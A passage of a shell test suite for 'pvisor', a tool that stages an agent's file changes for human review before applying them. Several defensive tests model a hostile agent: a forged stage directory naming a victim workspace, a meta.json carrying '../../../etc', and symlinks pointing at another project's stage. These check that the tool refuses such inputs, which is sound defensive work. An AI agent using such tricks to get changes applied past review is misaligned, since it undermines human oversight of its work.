eq "$(review_json "$S" | jq -r '.stage.checkpoints | map(.name) | join(",")')" one "review lists the checkpoint"
check "a checkpoint holds upper, journal, origin and metadata" sh -c "test -d '$S/checkpoints/one/upper' && test -f '$S/checkpoints/one/journal' && test -f '$S/checkpoints/one/origin' && test -f '$S/checkpoints/one/meta.json'"
check "a checkpoint is a copy, not hard links into the upper" sh -c "[ \$(stat -c %i '$S/upper/a') != \$(stat -c %i '$S/checkpoints/one/upper/a') ] && [ \$(stat -c %h '$S/upper/a') = 1 ]"
check "whiteouts and opaque dirs are kept in the checkpoint" sh -c "test -c '$S/checkpoints/one/upper/d' && { ! $have_xattr || getfattr -n user.overlay.opaque '$S/checkpoints/one/upper/d2' >/dev/null 2>&1; }"
"$P" checkpoint --stage "$S" --name one >/dev/null 2>&1; rc=$?
eq "$rc" 1 "a checkpoint name cannot be reused"
"$P" checkpoint --stage "$S" --name ../x >/dev/null 2>&1; rc=$?
eq "$rc" 2 "a checkpoint name with '/' is a usage error"
stage_run "$W" "$S" 'echo more >> a && rm n && echo z > z'
review_json "$S" | jq -S .changeset > "$T/cs.two"
check "a second run changed the stage" sh -c "! cmp -s '$T/cs.one' '$T/cs.two'"
"$P" restore one --stage "$S" >/dev/null; rc=$?
eq "$rc" 0 "restore exits 0"
review_json "$S" | jq -S .changeset > "$T/cs.restored"
check "restore brings back exactly the checkpointed changeset" cmp -s "$T/cs.one" "$T/cs.restored"
eq "$(review_json "$S" | jq -r .stage.state)" sealed "a restored stage is sealed"
"$P" fork one "$T/st13f" --stage "$S" >/dev/null; rc=$?
eq "$rc" 0 "fork of a checkpoint exits 0"
review_json "$T/st13f" | jq -S .changeset > "$T/cs.fork"
check "the fork holds the checkpointed changeset" cmp -s "$T/cs.one" "$T/cs.fork"
# A file copied up from the workspace keeps its inode number after restore
# and in a fork also when it has several names (a workspace hard link, or
# one the command made): the copy's origin map left out every upper file
# with several links, so their numbers changed (st_ino | 1<<63).
WH=$T/ws13h SH=$T/st13h
mkdir -p "$WH"; echo a > "$WH/a"; ln "$WH/a" "$WH/b"; echo c > "$WH/c"
stage_run "$WH" "$SH" 'echo x >> a && ln c d' >/dev/null
inos13h() { "$P" run --stage "$1" --workspace "$WH" -- sh -c "cd '$WH' && stat -c %i a b c d | tr '\n' ' '" 2>/dev/null; }
before=$(inos13h "$SH")
"$P" checkpoint --stage "$SH" --name h >/dev/null && stage_run "$WH" "$SH" 'echo y >> a && echo y >> c' >/dev/null &&
    "$P" restore h --stage "$SH" >/dev/null && "$P" fork h "$T/st13hf" --stage "$SH" >/dev/null
eq "$(inos13h "$SH")/$(inos13h "$T/st13hf")" "$before/$before" \
    "restore and fork keep the inode numbers of hard-linked files copied up from the workspace ($before)"
"$P" fork one "$T/st13f" --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 1 "fork into a non-empty directory is refused"
# a fork inside the workspace (or holding it) is refused, as run refuses
# such a --stage: apply would take it from nowhere (a stage no Bundle names
# is applied only from inside its workspace, never from inside itself)
"$P" fork one "$W/inner" --stage "$S" >/dev/null 2>"$T/fkin.err"; r1=$?
"$P" fork one "$(dirname "$W")/nothere/x" --stage "$S" >/dev/null 2>&1; r2=$?
eq "$r1:$r2:$(test -e "$W/inner" && echo made):$(grep -c 'must not contain each other' "$T/fkin.err")" "1:1::1" \
    "fork into the workspace is refused, and into a directory whose parent does not exist"
# ... and inside the stage it copies: in its upper/ the copy of a tree
# into itself failed, and left the new directory there, which review then
# listed as the agent's and apply made in the workspace
"$P" fork "$S/upper/d2/fk" --stage "$S" >/dev/null 2>"$T/fkst.err"; r1=$?
"$P" fork "$S/fk" --stage "$S" >/dev/null 2>&1; r2=$?
eq "$r1:$r2:$(test -e "$S/upper/d2/fk" && echo made):$(test -e "$S/fk" && echo made):$(review_json "$S" | jq -r '.changeset.changes[].path' | grep -c fk)" \
    "1:1:::0" "fork into the stage it copies (its upper/, or beside it) is refused, and leaves it unchanged"
# a stage named through a symlink (the agent's link in an applied
# workspace, pointing at another project's stage) is refused by every verb
ln -s "$T/st13f" "$T/lnk13"
(cd "$T" && "$P" apply ./lnk13) >/dev/null 2>"$T/lnk.err"; r1=$?
(cd "$T" && "$P" drop --stage lnk13) >/dev/null 2>&1; r2=$?
(cd "$T" && "$P" status --review ./lnk13/) >/dev/null 2>&1; r3=$?
eq "$r1:$r2:$r3:$(review_json "$T/st13f" | jq -r .stage.state):$(grep -c 'through a symlink' "$T/lnk.err")" "1:1:1:sealed:1" \
    "a stage path that is a symlink is refused (apply, drop, review); the stage it points at is untouched"
# ... also with a trailing '/.' (which follows the link) and through a
# linked directory on the way (the agent's 'stages' -> another project's)
ln -s "$(dirname "$T/st13f")" "$T/lnkdir13"
(cd "$T" && "$P" apply ./lnk13/.) >/dev/null 2>&1; r1=$?
(cd "$T" && "$P" drop --stage "lnkdir13/$(basename "$T/st13f")") >/dev/null 2>&1; r2=$?
(cd "$T" && "$P" status --review "$T/lnk13/./") >/dev/null 2>&1; r3=$?
eq "$r1:$r2:$r3:$(review_json "$T/st13f" | jq -r .stage.state)" "1:1:1:sealed" \
    "a stage path ending in '/.' after a symlink, or going through one, is refused too"
# an absolute path through a link in a workspace (an agent's) too; through
# a link elsewhere (/home -> var/home) it is the user's path
ln -s "$(dirname "$T/st13f")" "$W/agentlnk"
(cd / && "$P" drop --stage "$W/agentlnk/$(basename "$T/st13f")") >/dev/null 2>&1; r1=$?
mkdir -p "$T/syslinks" && ln -s "$(dirname "$T/st13f")" "$T/syslinks/to"
(cd / && "$P" status --review "$T/syslinks/to/$(basename "$T/st13f")") >/dev/null 2>&1; r2=$?
eq "$r1:$r2:$(review_json "$T/st13f" | jq -r .stage.state)" "1:0:sealed" \
    "an absolute stage path through a link in a workspace is refused; through a link elsewhere it is followed"
rm -rf "$W/agentlnk" "$T/syslinks"
rm -f "$T/lnk13" "$T/lnkdir13"
# an interrupted stage is restored from its checkpoint
"$P" run --stage "$S" --workspace "$W" -- sh -c "echo junk > '$W/junk'; echo \$\$ > '$T/agent13.pid'; sleep 30" &
runpid=$!
wait_for "$T/agent13.pid"
"$P" checkpoint --stage "$S" --name live >/dev/null 2>"$T/cpr.err"; rc=$?
eq "$rc" 1 "checkpoint of a running stage is refused"
kill -9 $runpid; wait $runpid 2>/dev/null; kill -9 "$(cat "$T/agent13.pid")" 2>/dev/null
i=0; while [ $i -lt 100 ] && [ "$(review_json "$S" 2>/dev/null | jq -r .stage.state)" = running ]; do sleep 0.1; i=$((i+1)); done
umount -l "$W" 2>/dev/null || true
eq "$(review_json "$S" | jq -r .stage.state)" interrupted "the killed run left the stage interrupted"
"$P" restore one --stage "$S" >/dev/null; rc=$?
eq "$rc $(review_json "$S" | jq -r .stage.state)" "0 sealed" "an interrupted stage is restored from its checkpoint"
review_json "$S" | jq -S .changeset > "$T/cs.restored2"
check "the restored stage has no trace of the interrupted run" cmp -s "$T/cs.one" "$T/cs.restored2"
# A restore killed between its renames (upper/ moved aside, the copy not
# yet in place) leaves the stage 'interrupted', with no upper/: the way
# out is the same restore again, and every verb that meets such a stage
# says so (apply used to say "its run died ... drop it", and a drop
# discards the checkpoints too; status failed with ENOENT alone).
if command -v strace >/dev/null; then
    # renameat #1 names the checkpoint in .restore, #2 moves upper/ aside,
    # #3 would move the copy in
    no_lsan strace -f -o /dev/null -e trace=renameat -e inject=renameat:signal=KILL:when=3 \
        "$P" restore one --stage "$S" >/dev/null 2>&1
    if [ ! -e "$S/upper" ] && [ -d "$S/.restore-old/upper" ]; then
        (cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/rsi.apply"; r1=$?
        "$P" status --review "$S" >/dev/null 2>"$T/rsi.status"
        eq "$r1:$(grep -c "'pvisor restore one $S' completes it" "$T/rsi.apply" "$T/rsi.status" | cut -d: -f2 | tr '\n' :)$(grep -c "then 'pvisor drop' it" "$T/rsi.apply")" \
            "1:1:1:0" "an interrupted restore: apply refuses it, and apply and status name the restore that completes it (not a drop)"
        (cd "$W" && "$P" run --stage "$S" --workspace "$W" -- true) >/dev/null 2>"$T/rsi.run"; r2=$?
        eq "$r2:$(grep -c 'of the stage was interrupted; run that restore again' "$T/rsi.run")" "125:1" \
            "... and a run on it says the same"
        "$P" checkpoint --stage "$S" >/dev/null 2>"$T/rsi.cp"; r2=$?
        eq "$r2:$(grep -c "'pvisor restore one $S' completes it" "$T/rsi.cp")" "1:1" "... and so does checkpoint (not 'drop it')"
        "$P" restore one --stage "$S" >/dev/null; rc=$?
        review_json "$S" | jq -S .changeset > "$T/cs.restored3"
        check "the restore run again completes it" sh -c "[ $rc -eq 0 ] && cmp -s '$T/cs.one' '$T/cs.restored3' && \
            [ ! -e '$S/.restore' ] && [ ! -e '$S/.restore-old' ]"
    else
        not_ok "the restore was killed between its renames (strace inject)"
    fi
    # killed while it copies (mkdirat #1 makes .restore, #2 a directory of
    # the copy): the stage stays sealed, and the partial copy, which only
    # the next restore removed (never once the stage was applied, when
    # drop is refused), goes at the next checkpoint or apply
    no_lsan strace -f -o /dev/null -e trace=mkdirat -e inject=mkdirat:signal=KILL:when=2 \
        "$P" restore one --stage "$S" >/dev/null 2>&1
    if [ -d "$S/.restore" ] && [ -e "$S/sealed" ]; then
        : > "$S/.sealed.0badf00d.tmp"
        "$P" apply --dry-run --stage "$S" >/dev/null 2>&1
        d=$(ls -A "$S" | grep -c -e '^.restore' -e '^.sealed')
        (cd "$W" && "$P" run --stage "$S" --workspace "$W" -- true) >/dev/null 2>&1
        d=$d:$?:$(ls -A "$S" | grep -c -e '^.restore')
        "$P" checkpoint --name after-kill --stage "$S" >/dev/null 2>&1; rc=$?
        eq "$d:$rc:$(ls -A "$S" | grep -c -e '^.restore' -e '^.sealed')" "2:0:0:0:0" \
            "a restore killed during its copy: the stage stays sealed; a run on it removes the partial copy (its death would read as the restore's), a checkpoint (as apply, not --dry-run) a stray temp file too"
    else
        not_ok "the restore was killed during its copy (strace inject)"
    fi
else
    skip "a restore killed between its renames" "needs strace"
    skip "a restore killed during its copy" "needs strace"
fi
apply_matches_oracle "apply after restore" "$W" "$S"
eq "$(cat "$W/a")" "$(printf 'a\nA')" "the restored content is applied"

# ---------------------------------------------------------------------------
# 9. without openat2: valgrind does not implement it, so under valgrind the
# lifecycle code takes its component-by-component O_NOFOLLOW walk; the same
# guarantees must hold (and valgrind checks memory on the way)

if [ "${PVISOR_SANITIZED:-0}" = 1 ]; then
    diag "the no-openat2 fallback runs under valgrind in the non-sanitized build (valgrind cannot run ASan binaries)"
elif command -v valgrind >/dev/null; then
    VG="valgrind -q --error-exitcode=99 --leak-check=full --errors-for-leak-kinds=definite"
    W=$T/ws14 S=$T/st14
    mkdir -p "$W/sub" "$W/gone"; echo a > "$W/a"; echo g > "$W/gone/g"
    stage_run "$W" "$S" 'echo A >> a && echo p > sub/p && rm -r gone && mkdir -p n/m && echo x > n/m/x && ln -s a l'
    $VG "$P" status --review "$S" --json >/dev/null 2>"$T/vg1.err"; rc=$?
    eq "$rc" 0 "no openat2 (valgrind): review works"
    $VG "$P" diff --stage "$S" >/dev/null 2>"$T/vg2.err"; rc=$?
    eq "$rc" 0 "no openat2 (valgrind): diff works"
    cp -a "$W" "$W.s"; rm -r "$W/sub"; ln -s "$CANARY" "$W/sub"
    $VG "$P" apply --stage "$S" >/dev/null 2>"$T/vg3.err"; rc=$?
    eq "$rc" 1 "no openat2 (valgrind): a symlinked parent is still refused"
    check "no openat2 (valgrind): nothing written outside" canary_clean
    rm "$W/sub"; mv "$W.s/sub" "$W/sub"
    if $have_oracle; then oracle "$W" "$S" "$T/vg.want"; fi
    $VG "$P" apply --stage "$S" >/dev/null 2>"$T/vg4.err"; rc=$?
    eq "$rc" 0 "no openat2 (valgrind): apply works, no memory errors"
    [ $rc -eq 0 ] || diag "$(grep -v openat2 "$T/vg4.err" | head -5)"
    if $have_oracle; then manifest "$W" > "$T/vg.got"; check "no openat2 (valgrind): the result equals the overlay view" cmp -s "$T/vg.want" "$T/vg.got"; fi
else
    skip "the no-openat2 fallback under valgrind" "valgrind is not installed"
fi

# ---------------------------------------------------------------------------
# 10. usage errors: exit 2, one line + hint

for args in "apply --bogus" "apply --path" "apply a b" "diff --bogus" "drop --stage" "drop a b" "apply --stage $T/st1 run1"; do
    # shellcheck disable=SC2086
    "$P" $args >/dev/null 2>"$T/u.err"; rc=$?
    eq "$rc" 2 "usage error exits 2: $args"
    check "usage error is one line plus a hint: $args" sh -c "[ \$(wc -l < '$T/u.err') -eq 2 ] && grep -q \"^Try 'pvisor help\" '$T/u.err'"
done
mkdir -p "$T/ws1" # a directory that is not a stage (a workspace)
"$P" apply --stage "$T/ws1" >/dev/null 2>"$T/ns.err"; rc=$?
eq "$rc" 1 "apply --stage of a directory that is not a stage exits 1"
# A bad checkpoint name is a usage error whatever the stage lookup finds:
# it was checked only after the lookup, so with no run recorded it was
# "no runs recorded yet" (exit 1), and otherwise it came after the
# lookup's notes (three lines)
mkdir -p "$T/nostate"
for args in "checkpoint --name ../x" "restore ../x" "fork ../x $T/fk-bad"; do
    # shellcheck disable=SC2086
    (cd "$T/ws1" && XDG_STATE_HOME="$T/nostate" "$P" $args) >/dev/null 2>"$T/u.err"; rc=$?
    eq "$rc:$(wc -l < "$T/u.err"):$(grep -c "bad .*'\.\./x'" "$T/u.err")" "2:2:1" \
        "a bad checkpoint name is a usage error before any stage is looked up: $args"
done

# A stage's Bundle is found through the runs its meta.json names (newest
# last), whatever newer runs used other stages; a meta.json naming
# something that is not a run id is not followed, and no other run's
# Bundle is searched (every run records itself there before it starts).
W=$T/wsr S=$T/str
mkdir -p "$W"; echo a > "$W/f"
"$P" run --stage "$S" --workspace "$W" -- true >/dev/null 2>&1
sid=$(latest_run)
for k in 1 2 3; do "$P" run --stage "$T/other-$k" --workspace "$W" -- true >/dev/null 2>&1; done
eq "$("$P" status --review "$S" --json | jq -r .run)" "$sid" "review of a stage names the run that used it, with newer runs of other stages"
"$P" fork --stage "$S" "$S.f" >/dev/null
eq "$("$P" status --review "$S.f" --json | jq -r '.run, .safety_boundary')" "null
null" "a forked stage, which no run used, names no run"
jq '.runs = ["../../../etc", "'"$sid"'x"]' "$S/meta.json" > "$T/meta.hostile" && cp "$T/meta.hostile" "$S/meta.json"
eq "$("$P" status --review "$S" --json | jq -r '.run, .stage.state')" "null
sealed" "a meta.json naming a non-run is not followed (the review still works)"

# A forged stage: an agent's run leaves a directory named "latest" in the
# workspace that looks like a stage whose meta.json names another
# directory (the victim) as its workspace.  After that run is applied, a
# bare "latest" is still the newest run, never the directory, and the
# forged stage named by path is applied nowhere but from inside the
# workspace it names.
WF=$T/wsforge VF=$T/victim
mkdir -p "$WF" "$VF"; echo v > "$VF/keep"
(cd "$WF" && "$P" run --stage auto -- sh -c 'mkdir -p latest/upper latest/work && printf "pvisor-stage 1\n" > latest/version &&
    printf "{\"format\":1,\"workspace\":\"'"$VF"'\",\"created\":\"2026-01-01T00:00:00Z\",\"runs\":[]}" > latest/meta.json &&
    : > latest/journal && printf "pvisor-origin 1 dev=0\n" > latest/origin && : > latest/lock && echo t > latest/sealed &&
    echo "echo PWNED" > latest/upper/evil.sh' && "$P" apply) >/dev/null 2>&1
check "the agent's forged stage directory was applied into its workspace" test -f "$WF/latest/upper/evil.sh"
(cd "$WF" && "$P" run --stage auto -- true && "$P" apply latest) >/dev/null 2>"$T/forge1.err"; rc1=$?
(cd "$WF" && "$P" apply ./latest) >/dev/null 2>"$T/forge2.err"; rc2=$?
(cd "$WF" && "$P" apply --stage latest) >/dev/null 2>&1; rc3=$?
(cd "$WF" && "$P" status --review latest --json) > "$T/forge.json" 2>/dev/null
eq "$rc1:$rc2:$rc3:$(ls "$VF" | tr '\n' ' ')" "0:1:1:keep " \
    "a bare 'latest' is the newest run, not a directory of that name; the forged stage by path is refused: nothing reaches the directory it names"
check "the refusal says only the stage names its workspace" grep -q "no run's Bundle names the stage" "$T/forge2.err"
eq "$(jq -r .stage.path "$T/forge.json")" "$(cd "$WF" && "$P" status --json latest | jq -r .stage.path)" \
    "status --review latest reviews the newest run's stage, not the directory"
# ... nor a forged stage naming an ancestor of the workspace (or /), which
# holds the current directory too: a stage inside the workspace it names
# is never applied without a Bundle naming it
mkdir -p "$WF/anc/upper" "$WF/root/upper"
for d in anc root; do cp "$WF/latest/version" "$WF/latest/journal" "$WF/latest/origin" "$WF/latest/sealed" "$WF/$d/"; : > "$WF/$d/lock"; done
printf '{"format":1,"workspace":"%s","created":"2026-01-01T00:00:00Z","runs":[]}' "$T" > "$WF/anc/meta.json"
printf '{"format":1,"workspace":"/","created":"2026-01-01T00:00:00Z","runs":[]}' > "$WF/root/meta.json"
echo x > "$WF/anc/upper/forged-anc"; mkdir -p "$WF/root/upper$T"; echo x > "$WF/root/upper$T/forged-root"
(cd "$WF" && "$P" apply ./anc) >/dev/null 2>"$T/forge4.err"; rc4=$?
(cd "$WF" && "$P" apply --stage root) >/dev/null 2>"$T/forge5.err"; rc5=$?
eq "$rc4:$rc5:$(ls "$T" | grep -c forged-)" "1:1:0" \
    "a forged stage naming an ancestor of its directory, or /, is refused from inside it: nothing is written"
check "the refusal says the stage and its workspace contain each other" grep -q "contain each other" "$T/forge4.err"
mkdir "$WF/mystage"
(cd "$WF" && "$P" status --review mystage) >/dev/null 2>"$T/forge3.err"; rc=$?
eq "$rc:$(grep -c 'write ./mystage' "$T/forge3.err")" "1:1" "a bare word naming a directory and no run: the error says how to name the directory"

# A new stage's layout is flushed at its seal (checkpoint durability), so a
# power loss during the run can leave an owned stage directory holding only
# its lock, or a meta.json that never reached the disk.  Every verb refuses
# such a stage with one line (no crash), status says what it sees, and a
# stage with a torn meta.json can still be dropped.
W=$T/wst
mkdir -p "$W"; echo keep > "$W/f"
for torn in lock-only empty-meta; do
    (cd "$W" && "$P" run --stage auto -- sh -c 'echo staged > f') >/dev/null 2>&1
    S=$XDG_STATE_HOME/pvisor/runs/$(latest_run)/stage
    rm -f "$S/sealed"
    case $torn in
        lock-only) find "$S" -mindepth 1 -maxdepth 1 ! -name lock -exec rm -rf {} + ;;
        empty-meta) : > "$S/meta.json" ;;
    esac
    (cd "$W" && "$P" apply) >/dev/null 2>"$T/torn.err"; rc=$?
    eq "$rc:$(wc -l < "$T/torn.err")" "1:1" "a stage torn by a power loss ($torn): apply refuses it with one line"
    check "a stage torn by a power loss ($torn): the workspace is untouched" sh -c "[ \"\$(cat '$W/f')\" = keep ]"
    (cd "$W" && "$P" status --json) > "$T/torn.json" 2>/dev/null; rc=$?
    eq "$rc:$(jq -r .stage.current_state "$T/torn.json")" "0:$([ $torn = lock-only ] && echo missing || echo interrupted)" \
        "a stage torn by a power loss ($torn): status reports it"
done
(cd "$W" && "$P" drop) >/dev/null 2>&1; rc=$?
eq "$rc:$(ls "$S" | tr '\n' ' ')" "0:dropped lock meta.json version " "a stage with a torn meta.json can be dropped"

# Bundles are not flushed (checkpoint durability): after a power loss the
# newest run's Bundle may be empty or gone.  Without a RUN, the verbs never
# guess past such a run to an older run's stage.
W=$T/wsb
mkdir -p "$W"; echo old > "$W/f"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo fromA > f') >/dev/null 2>&1
runA=$(latest_run)
(cd "$W" && "$P" run --stage auto -- sh -c 'echo fromB > f') >/dev/null 2>&1
runB=$(latest_run)
: > "$XDG_STATE_HOME/pvisor/runs/$runB/bundle.json"
for verb in apply drop "status --review" diff; do
    # shellcheck disable=SC2086
    (cd "$W" && "$P" $verb) >/dev/null 2>"$T/lost.err"; rc=$?
    eq "$rc:$(grep -c "newest run $runB has no readable Bundle" "$T/lost.err")" "1:1" \
        "$verb without a run refuses when the newest run's Bundle was lost"
done
check "... and nothing was applied or dropped" sh -c "[ \"\$(cat '$W/f')\" = old ] && [ ! -e '$XDG_STATE_HOME/pvisor/runs/$runA/stage/dropped' ]"
# named, that run is found (list shows it), and said to have no Bundle
(cd "$W" && "$P" drop "$runB") >/dev/null 2>"$T/lost.err"; rc=$?
eq "$rc:$(grep -c "run $runB has no readable Bundle" "$T/lost.err")" "1:1" \
    "drop of a named run whose Bundle was lost says so (not that no run matches)"
(cd "$W" && "$P" apply "$runA") >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/f")" "0:fromA" "naming the older run still applies it"
rm -rf "$XDG_STATE_HOME/pvisor/runs/$runB"

# A run still starting (another agent's, sharing the state directory) has
# no Bundle for its first ~0.1 s: its supervisor holds a shared flock on
# the run directory, so the verbs tell it from one whose supervisor died.
# Where they only read, they pass it over; apply and drop refuse (its
# workspace is unknown: its stage, not locked yet, may be this one's
# newest), saying it is starting.
W=$T/wss
mkdir -p "$W"; echo old > "$W/f"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo fromS > f') >/dev/null 2>&1
starting=29991231T000000.000Z-0000beef
mkdir "$XDG_STATE_HOME/pvisor/runs/$starting"
# not the test's output: flock's child, left holding it, kept meson waiting
flock -o -s "$XDG_STATE_HOME/pvisor/runs/$starting" sleep 60 >/dev/null 2>&1 &
holder=$!
i=0; while flock -n -x "$XDG_STATE_HOME/pvisor/runs/$starting" true && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
"$P" list --json > "$T/starting.json" 2>/dev/null
eq "$(jq -r --arg id "$starting" '.[] | select(.run_id == $id) | .state' "$T/starting.json")" starting \
    "list shows a run without a Bundle whose directory is locked as starting"
(cd "$W" && "$P" status --review --json) > "$T/starting.json" 2>/dev/null; rc=$?
eq "$rc:$(jq -r .stage.path "$T/starting.json")" "0:$XDG_STATE_HOME/pvisor/runs/$(ls "$XDG_STATE_HOME/pvisor/runs" | sort | tail -n 2 | head -n 1)/stage" \
    "status --review without a run passes over a newer run that is still starting"
for verb in apply drop; do
    (cd "$W" && "$P" $verb) >/dev/null 2>"$T/starting.err"; rc=$?
    eq "$rc:$(grep -c "newest run $starting is still starting" "$T/starting.err"):$(cat "$W/f")" "1:1:old" \
        "$verb without a run refuses while a newer run is still starting, and says so"
done
pkill -P $holder; kill $holder 2>/dev/null; wait $holder 2>/dev/null
(cd "$W" && "$P" status --review) >/dev/null 2>"$T/starting.err"; rc=$?
eq "$rc:$(grep -c "newest run $starting has no readable Bundle" "$T/starting.err")" "1:1" \
    "... and once nothing holds its lock, it is one whose supervisor died: refused as before"
rm -rf "$XDG_STATE_HOME/pvisor/runs/$starting"
(cd "$W" && "$P" apply) >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/f")" "0:fromS" "... and without it, apply takes the workspace's stage"
# the supervisor does hold that lock: a plain run's, while its command runs
(cd "$W" && "$P" run -- sh -c 'echo go > "$1"; sleep 30' sh "$T/go") >/dev/null 2>&1 &
pv=$!
i=0; while [ ! -s "$T/go" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
held=$(flock -n -x "$XDG_STATE_HOME/pvisor/runs/$(latest_run)" true && echo free || echo held)
kill $pv 2>/dev/null; wait $pv 2>/dev/null
eq "$held" held "a run's supervisor holds the flock on its run directory"

# diff never prints the workspace's side of a path the agent never saw:
# here a file the user created after the run where the agent made one too.
W=$T/wsd
mkdir -p "$W"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo agent > late.txt') >/dev/null 2>&1
echo HOSTSECRET > "$W/late.txt"
(cd "$W" && "$P" diff; "$P" diff --stat) > "$T/late.diff" 2>&1
eq "$(grep -c HOSTSECRET "$T/late.diff"):$(grep -c 'Content not shown' "$T/late.diff")" "0:1" \
    "diff does not print a file the user created after the run at a path the agent also wrote"

# Without a RUN the verbs take the newest stage of the workspace the current
# directory is in (not the newest of all); from a directory in no staged
# run's workspace, apply, drop and restore refuse and name the run to give.
WA=$T/wsA WB=$T/wsB E=$(mktemp -d /tmp/pvisor-elsewhere.XXXXXX)
at_exit "rm -rf '$E'"
mkdir -p "$WA/sub" "$WB"
(cd "$WA" && "$P" run --stage auto -- sh -c 'echo A > fromA') >/dev/null 2>&1
(cd "$WB" && "$P" run --stage auto -- sh -c 'echo B > fromB') >/dev/null 2>&1
runB=$(latest_run)
(cd "$WA/sub" && "$P" apply) >"$T/pick.out" 2>&1; rc=$?
eq "$rc:$(ls "$WA" | tr '\n' ' '):$(ls "$WB" | tr '\n' ' '):$(grep -c "to $WA:" "$T/pick.out")" "0:fromA sub ::1" \
    "apply without a RUN takes the newest stage of the current directory's workspace, and names that workspace"
(cd "$E" && "$P" apply) >/dev/null 2>"$T/pick1.err"; rc1=$?
(cd "$E" && "$P" drop) >/dev/null 2>&1; rc2=$?
(cd "$E" && "$P" restore x) >/dev/null 2>&1; rc3=$?
eq "$rc1:$rc2:$rc3:$(ls "$WB" | wc -l):$(grep -c "name it ('pvisor apply $runB')" "$T/pick1.err")" "1:1:1:0:1" \
    "from a directory in no staged workspace, apply, drop and restore refuse (nothing written) and name the run"
(cd "$E" && "$P" diff --stat) >"$T/pick2.out" 2>"$T/pick2.err"; rc=$?
eq "$rc:$(grep -c fromB "$T/pick2.out"):$(grep -c "workspace $WB (run $runB)" "$T/pick2.err")" "0:1:1" \
    "... diff shows the newest stage and says whose it is"
(cd "$E" && "$P" apply "$runB") >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$WB/fromB")" "0:B" "... naming the run applies it"

# diff into a pipe names files as git does (quoted with C escapes when they
# hold a control byte, a quote, a backslash or a non-ASCII byte; a tab after
# --- and +++ names with a space): patch -p1 and git apply then reproduce
# what apply writes, whatever the names.
W=$T/wsq
mkdir -p "$W"
(cd "$W" && echo old > "my file.txt" && printf 'old\n' > "$(printf 'tab\there')" && echo o > 'back\slash' &&
    echo o > "$(printf 'caf\303\251')" && echo o > "$(printf 'bad\377name')" && echo o > 'q"uote')
cp -a "$W" "$T/wsq.patch"; cp -a "$W" "$T/wsq.git"
(cd "$W" && "$P" run --stage auto -- sh -c 'for f in *; do echo new >> "$f"; done; echo x > "a b"; echo y > "$(printf "nl\nx")"') >/dev/null 2>&1
(cd "$W" && "$P" diff) >"$T/q.diff" 2>/dev/null
(cd "$T/wsq.patch" && patch -s -p1 <"$T/q.diff") >/dev/null 2>&1; rp=$?
(cd "$T/wsq.git" && git apply "$T/q.diff") >/dev/null 2>&1; rg=$?
(cd "$W" && "$P" apply) >/dev/null 2>&1; ra=$?
eq "$rp:$rg:$ra:$(diff -r "$W" "$T/wsq.patch" >/dev/null 2>&1; echo $?):$(diff -r "$W" "$T/wsq.git" >/dev/null 2>&1; echo $?)" "0:0:0:0:0" \
    "diff's names (space, tab, newline, backslash, quote, UTF-8, non-UTF-8) round-trip through patch -p1 and git apply"
check "... a name with a space ends in a tab on --- and +++, a tab is quoted as git quotes it" \
    sh -c "grep -q '^+++ b/my file.txt	\$' '$T/q.diff' && grep -q '^diff --git \"a/tab\\\\there\" \"b/tab\\\\there\"\$' '$T/q.diff'"

# A file whose only change is its user xattrs holds nothing a patch can
# say: its bare "diff --git" line made git apply refuse the whole diff
# ("bad git-diff - expected /dev/null, got x", with a new file after it);
# into a pipe it is left out, on a
# terminal said in words.
if $have_xattr; then
    W=$T/wsxo; mkdir -p "$W" && echo o > "$W/a" && echo o > "$W/x" && cp -a "$W" "$T/wsxo.git"
    (cd "$W" && "$P" run --stage auto -- sh -c 'echo n >> a && setfattr -n user.k -v v x && echo y > y') >/dev/null 2>&1
    (cd "$W" && "$P" diff) >"$T/xo.diff" 2>/dev/null
    (cd "$T/wsxo.git" && git apply "$T/xo.diff") >/dev/null 2>&1; rg=$?
    eq "$rg:$(grep -c '^diff --git' "$T/xo.diff"):$(cat "$T/wsxo.git/a" "$T/wsxo.git/y" | tr '\n' ' ')" "0:2:o n y " \
        "diff leaves out a file whose only change is its xattrs: git apply takes the rest"
    /usr/bin/python3 "$SRCDIR/tests/helpers/ptyrun.py" -- sh -c "cd '$W' && '$P' diff x" >"$T/xo.tty" 2>&1
    eq "$(tr -d '\r' <"$T/xo.tty" | grep -c '^xattr user.k: none -> "v" (1 byte)$')" 1 "  ... on a terminal it shows the xattr"
else
    skip "diff of an xattr-only change" "no setfattr"
fi

# apply --path drops setuid/setgid bits; the full apply after it finds
# those paths written already (no conflict) and completes the stage.
W=$T/wssu
mkdir -p "$W/d"; echo 1 > "$W/tool"; echo 1 > "$W/other"
(cd "$W" && "$P" run --stage auto -- sh -c 'chmod 4755 tool; echo 2 >> other; echo n > newtool; chmod 6755 newtool; chmod 2755 d') >/dev/null 2>&1
S=$XDG_STATE_HOME/pvisor/runs/$(latest_run)/stage
(cd "$W" && "$P" apply --path tool --path newtool --path d) >/dev/null 2>&1; r1=$?
(cd "$W" && "$P" apply) >/dev/null 2>"$T/su.err"; r2=$?
eq "$r1:$r2:$(stat -c %a "$W/tool" "$W/newtool" "$W/d" | tr '\n' ' ')$(tr '\n' ' ' <"$W/other"):$(test -e "$S/applied" && echo applied)" \
    "0:0:755 755 2755 1 2 :applied" \
    "a full apply after apply --path of setuid/setgid files completes the stage (bits dropped, no conflict)"

# apply replaces a file by a new inode: the workspace file's POSIX ACL goes
# with it (written in place, the file would keep it); without it the ACL's
# mask became the group's bits: group write where the ACL held it to read
W=$T/wsacl
mkdir -p "$W"; echo a > "$W/f"
if command -v setfacl >/dev/null && setfacl -m u:65534:rw "$W/f" 2>/dev/null; then
    (cd "$W" && "$P" run --stage auto -- sh -c 'echo more >> f') >/dev/null 2>&1
    (cd "$W" && "$P" apply) >/dev/null 2>&1; rc=$?
    eq "$rc:$(getfacl -cpn "$W/f" 2>/dev/null | tr '\n' ' '):$(cat "$W/f" | tr '\n' ' ')" \
        "0:user::rw- user:65534:rw- group::r-- mask::rw- other::r--  :a more " \
        "apply keeps a replaced file's POSIX ACL (the group stays read-only)"
else
